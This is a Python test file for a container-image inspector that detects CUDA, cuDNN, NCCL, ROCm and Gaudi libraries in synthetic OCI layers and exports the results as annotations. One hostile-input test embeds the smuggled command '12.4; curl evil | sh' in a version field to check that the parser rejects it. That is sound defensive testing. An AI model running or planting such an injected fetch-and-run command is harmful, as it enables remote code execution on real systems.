"""Accelerator hints from layers the tests write (library files with the right names and
version files), streamed from a real registry; none in the real Debian image."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from runtime_images.exports import facts_of
from tests.exports.catalogue import make_catalogue
from tests.fixtures import images, oci
from tests.fixtures.registry import RegistryServer
from tests.inspect.test_inspect import inspect, push, validate

pytestmark = pytest.mark.timeout(120)

CUDA_JSON = json.dumps({"cuda": {"name": "CUDA SDK", "version": "12.4.1"}})


def cuda_layer(version_json: bytes | str = CUDA_JSON) -> oci.Layer:
    b = oci.LayerBuilder()
    b.dir("usr/local/cuda-12.4").dir("usr/local/cuda-12.4/lib64")
    b.file("usr/local/cuda-12.4/version.json", version_json)
    b.symlink("usr/local/cuda", "cuda-12.4")
    b.file("usr/local/cuda-12.4/lib64/libcudart.so.12.4.127", b"\x7fELF")
    b.symlink("usr/local/cuda-12.4/lib64/libcudart.so.12", "libcudart.so.12.4.127")
    site = "usr/local/lib/python3.11/site-packages"
    b.dir("usr/local/lib").dir("usr/local/lib/python3.11").dir(site)
    b.dir(f"{site}/nvidia").dir(f"{site}/nvidia/cudnn").dir(f"{site}/nvidia/cudnn/lib")
    b.file(f"{site}/nvidia/cudnn/lib/libcudnn.so.9", b"\x7fELF")
    b.dir("usr/lib/x86_64-linux-gnu").file("usr/lib/x86_64-linux-gnu/libnccl.so.2.21.5")
    return b.build()


def rocm_layer() -> oci.Layer:
    b = oci.LayerBuilder()
    b.dir("opt").dir("opt/rocm-6.0.2").dir("opt/rocm-6.0.2/.info").dir("opt/rocm-6.0.2/lib")
    b.file("opt/rocm-6.0.2/.info/version", "6.0.2-115\n")
    b.symlink("opt/rocm", "rocm-6.0.2")
    b.file("opt/rocm-6.0.2/lib/libamdhip64.so.6.0.60002", b"\x7fELF")
    b.symlink("opt/rocm-6.0.2/lib/libamdhip64.so.6", "libamdhip64.so.6.0.60002")
    return b.build()


def gaudi_layer() -> oci.Layer:
    b = oci.LayerBuilder().dir("usr/lib/habanalabs").dir("usr/lib/x86_64-linux-gnu")
    b.file("usr/lib/habanalabs/libSynapse.so", b"\x7fELF")
    b.file("usr/lib/x86_64-linux-gnu/libhl-thunk.so", b"\x7fELF")
    return b.build()


def found(ref: str) -> list[tuple[str, str, str]]:
    return [(a.name, a.version, a.evidence) for a in inspect(ref).report.accelerators]


def test_cuda_cudnn_and_nccl(registry: RegistryServer, repo_name: str, isolated_home: Path) -> None:
    ref = push(registry, repo_name, oci.make_image([images.base_layer(), cuda_layer()]))
    site = "/usr/local/lib/python3.11/site-packages"
    assert found(ref) == [
        ("CUDA", "12.4.1", "/usr/local/cuda-12.4/version.json"),
        ("cuDNN", "9", f"{site}/nvidia/cudnn/lib/libcudnn.so.9"),
        ("NCCL", "2.21.5", "/usr/lib/x86_64-linux-gnu/libnccl.so.2.21.5"),
    ]
    result = validate(ref)
    assert result.to_json()["suggestedTags"] == ["gpu"]
    report = result.to_json()["report"]
    assert {"name": "CUDA", "version": "12.4.1"} in report["software"]
    assert report["accelerators"][0]["evidence"] == "/usr/local/cuda-12.4/version.json"
    software = {p.name: p.version for p in facts_of(result.report).software}
    assert software["CUDA"] == "12.4.1" and software["Python"] == "3.11"


def test_legacy_cuda_version_txt(
    registry: RegistryServer, repo_name: str, isolated_home: Path
) -> None:
    b = oci.LayerBuilder().dir("usr/local/cuda-10.2")
    b.file("usr/local/cuda-10.2/version.txt", "CUDA Version 10.2.89\n")
    ref = push(registry, repo_name, oci.make_image([images.base_layer(), b.build()]))
    assert found(ref) == [("CUDA", "10.2.89", "/usr/local/cuda-10.2/version.txt")]


def test_rocm_and_gaudi(registry: RegistryServer, repo_name: str, isolated_home: Path) -> None:
    ref = push(registry, repo_name, oci.make_image([images.base_layer(), rocm_layer()]))
    assert found(ref) == [("ROCm", "6.0.2-115", "/opt/rocm-6.0.2/.info/version")]
    ref = push(registry, f"{repo_name}-g", oci.make_image([images.base_layer(), gaudi_layer()]))
    assert found(ref) == [("Intel Gaudi", "", "/usr/lib/habanalabs/libSynapse.so")]


@pytest.mark.parametrize(
    "version_json",
    [
        b"{not json",
        json.dumps({"cuda": {"version": "12.4; curl evil | sh"}}),
        json.dumps({"cuda": "12.4"}),
        json.dumps({"cuda": {"version": "1" * 70_000}}),  # cut at 64 KiB: not JSON
        "[" * 60_000 + "]" * 60_000,  # nested past json's recursion limit (in the 64 KiB read)
    ],
)
def test_a_hostile_version_file_falls_back_to_the_soname(
    registry: RegistryServer, repo_name: str, isolated_home: Path, version_json: bytes | str
) -> None:
    ref = push(registry, repo_name, oci.make_image([images.base_layer(), cuda_layer(version_json)]))
    assert found(ref)[0] == ("CUDA", "12.4.127", "/usr/local/cuda-12.4/lib64/libcudart.so.12.4.127")


def test_libraries_a_later_layer_deletes_are_not_found(
    registry: RegistryServer, repo_name: str, isolated_home: Path
) -> None:
    gone = oci.LayerBuilder().whiteout("usr/local/cuda-12.4").whiteout("usr/local/lib/python3.11")
    gone.whiteout("usr/lib/x86_64-linux-gnu/libnccl.so.2.21.5")
    image = oci.make_image([images.base_layer(), cuda_layer(), gone.build()])
    assert found(push(registry, repo_name, image)) == []


def test_nothing_in_the_plain_debian_image(debian_image: str, isolated_home: Path) -> None:
    """The real debootstrapped Debian image has no accelerator."""
    result = validate(debian_image)
    assert result.report.accelerators == []
    assert result.to_json()["suggestedTags"] == []
    assert result.report.files > 1000  # a real root filesystem was read


def test_odh_export_recommends_the_accelerator(
    registry: RegistryServer, repo_name: str, tmp_path: Path, isolated_home: Path
) -> None:
    catalogue = make_catalogue(registry, repo_name, tmp_path)
    with registry.pusher() as pusher:
        digest = pusher.push_image(
            f"{repo_name}-cuda", "1", oci.make_image([images.base_layer(), cuda_layer()])
        )
    catalogue.store.create(
        {
            "name": "cuda",
            "display_name": "CUDA",
            "schema_name": "runtime-image",
            "metadata": {"image_name": f"{registry.host}/{repo_name}-cuda:1@{digest}"},
        }
    )
    import yaml

    (stream,) = yaml.safe_load_all(catalogue.export("odh-imagestream", names=["cuda"]).text)
    annotations = stream["metadata"]["annotations"]
    assert json.loads(annotations["opendatahub.io/recommended-accelerators"]) == ["nvidia.com/gpu"]
    tag = stream["spec"]["tags"][0]["annotations"]
    software = json.loads(tag["opendatahub.io/notebook-software"])
    assert {"name": "CUDA", "version": "12.4.1"} in software
    assert {"name": "NCCL", "version": "2.21.5"} in software
